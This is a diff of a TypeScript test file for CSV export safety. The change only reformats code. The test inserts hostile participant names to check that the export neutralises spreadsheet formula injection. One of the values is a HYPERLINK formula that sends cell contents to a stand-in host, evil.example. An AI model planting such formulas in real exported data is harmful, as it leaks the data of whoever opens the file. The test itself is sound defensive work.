@@ -20,7 +20,17 @@ describe("CSV export safety", () => {
   let db: Db;
   let app: FastifyInstance;
   let s: CreatedSession;
-  const hostile = ['=HYPERLINK("https://evil.example/?leak="&A1,"open me")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturn", "  =1+1", "Ada = fine", "Bo-Ann"];
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"open me")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturn",
+    "  =1+1",
+    "Ada = fine",
+    "Bo-Ann",
+  ];
 
   beforeAll(async () => {
     db = await createDb();
@@ -31,7 +41,9 @@ describe("CSV export safety", () => {
     let tMs = 0;
     for (const name of hostile) {
       const who = await db.joinParticipant({ sessionId: s.id, name, tokenHash: "-" });
-      await db.insertReadings([{ sessionId: s.id, participantId: who.id, capturedAt: 1e12 + tMs, serverAt: 1e12 + tMs, tMs, quality: "ok", dominant: "happy", probabilities: p }]);
+      await db.insertReadings([
+        { sessionId: s.id, participantId: who.id, capturedAt: 1e12 + tMs, serverAt: 1e12 + tMs, tMs, quality: "ok", dominant: "happy", probabilities: p },
+      ]);
       tMs += 500;
     }
   });
